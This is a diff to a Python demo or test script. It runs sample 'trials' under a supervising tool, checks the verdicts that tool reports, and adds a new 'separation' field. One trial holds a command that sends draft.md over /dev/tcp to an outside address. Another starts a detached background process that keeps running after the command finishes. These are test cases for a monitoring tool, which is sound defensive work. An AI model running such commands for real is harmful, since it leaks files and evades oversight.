@@ -29,16 +29,17 @@ class Trial:
     options: tuple[str, ...] = ()
     script: str
     finality: str
+    separation: str
     scope: str
 
 
 TRIALS = (
     Trial(
         title="An ordinary trial",
-        story="It reads three notes and writes a summary. Nothing is left running, nothing else was touched.",
-        options=("--outcome", "summary.md"),
-        script="cat notes/*.md | sort > summary.md && wc -l summary.md",
+        story="It sorts three notes in its private /tmp and checks them; the outcome is its exit code. Nothing stays.",
+        script="sort notes/*.md > /tmp/sorted && grep -c . /tmp/sorted && grep -qx plums /tmp/sorted",
         finality="final",
+        separation="separate",
         scope="clean",
     ),
     Trial(
@@ -50,6 +51,7 @@ TRIALS = (
             "bash -c 'cat draft.md > /dev/tcp/203.0.113.7/443' 2>/dev/null || echo 'could not send it'"
         ),
         finality="final",
+        separation="separate",
         scope="violated",
     ),
     Trial(
@@ -61,6 +63,7 @@ TRIALS = (
             "(setsid sh -c 'sleep 60; echo failure > result.txt' > /dev/null 2>&1 &); cat result.txt"
         ),
         finality="unresolved",
+        separation="unresolved",
         scope="clean",
     ),
 )
@@ -88,7 +91,7 @@ def show(trial: Trial, workspace: Path) -> list[str]:
     supervise = measuring.supervise_command()
     command = [supervise, "-q", *trial.options, "--", "sh", "-c", trial.script]
     heading(trial.title)
-    print(f"{trial.story}\n\n$ supervise {' '.join(trial.options)} -- sh -c '…'", flush=True)
+    print(f"{trial.story}\n\n$ {' '.join(['supervise', *trial.options])} -- sh -c '…'", flush=True)
     done = subprocess.run(command, cwd=workspace, stdin=subprocess.DEVNULL, check=False)
     print(f"(exit code {done.returncode})\n\n$ supervise show last", flush=True)
     subprocess.run([supervise, "show", "last"], stdin=subprocess.DEVNULL, check=False)
@@ -96,7 +99,7 @@ def show(trial: Trial, workspace: Path) -> list[str]:
     if told.returncode:
         return [f"{trial.title}: no report: {told.stderr.decode(errors='replace')}"]
     report = json.loads(told.stdout)
-    promised = {"finality": trial.finality, "scope": trial.scope}
+    promised = {"finality": trial.finality, "separation": trial.separation, "scope": trial.scope}
     return [
         f"{trial.title}: expected {question} {verdict}, got {report[question]['verdict']}"
         for question, verdict in promised.items()
